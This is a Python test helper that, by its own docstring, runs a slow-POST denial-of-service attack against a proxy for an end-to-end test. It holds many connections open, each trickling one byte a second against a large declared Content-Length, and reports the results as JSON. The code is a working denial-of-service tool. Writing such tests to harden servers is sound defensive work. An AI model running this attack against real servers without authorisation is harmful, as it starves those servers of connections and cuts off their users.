"""A slow-POST attacker for tests/e2e/test_slow_body.py, run as its own process.

    python slow_post_attack.py HOST PORT CONNECTIONS SECONDS [SPREAD]

Keeps CONNECTIONS connections open for SECONDS seconds (opened over the first SPREAD
seconds, 1 by default), each sending a POST head with a
large Content-Length and then one body byte a second (the slowloris of bodies). A connection
the proxy ends is opened again at once, so the attack keeps its size. At the end it prints
one JSON line: connections opened, the most open at once, answers by status, connections
that ended without an answer, and connect errors.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time

HEAD = (
    b"POST /upload HTTP/1.1\r\nHost: attack\r\nContent-Type: application/octet-stream\r\n"
    b"Content-Length: 1000000\r\n\r\n"
)


class Attack:
    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.host = host
        self.port = port
        self.end = time.monotonic() + seconds
        self.opened = 0
        self.open_now = 0
        self.most_open = 0
        self.statuses: dict[str, int] = {}
        self.silent_ends = 0
        self.connect_errors = 0

    async def one(self, delay: float) -> None:
        await asyncio.sleep(delay)  # spread the first connects
        while time.monotonic() < self.end:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                self.connect_errors += 1
                await asyncio.sleep(0.1)
                continue
            self.opened += 1
            self.open_now += 1
            self.most_open = max(self.most_open, self.open_now)
            try:
                await self.trickle(reader, writer)
            finally:
                self.open_now -= 1
                writer.close()

    async def trickle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(HEAD)
        answer = asyncio.ensure_future(reader.read(65536))
        try:
            while time.monotonic() < self.end:
                done, _ = await asyncio.wait([answer], timeout=1.0)
                if done:
                    break
                writer.write(b"x")
            if not answer.done():
                return
            try:
                data = answer.result()
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                status = data[9:12].decode()
                self.statuses[status] = self.statuses.get(status, 0) + 1
            else:
                self.silent_ends += 1
        finally:
            answer.cancel()

    async def run(self, connections: int, spread: float) -> dict[str, object]:
        await asyncio.gather(*(self.one(spread * i / connections) for i in range(connections)))
        return {
            "opened": self.opened,
            "most_open": self.most_open,
            "statuses": self.statuses,
            "silent_ends": self.silent_ends,
            "connect_errors": self.connect_errors,
        }


def main() -> None:
    host, port, connections, seconds = sys.argv[1:5]
    spread = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    attack = Attack(host, int(port), float(seconds))
    result = asyncio.run(attack.run(int(connections), spread))
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
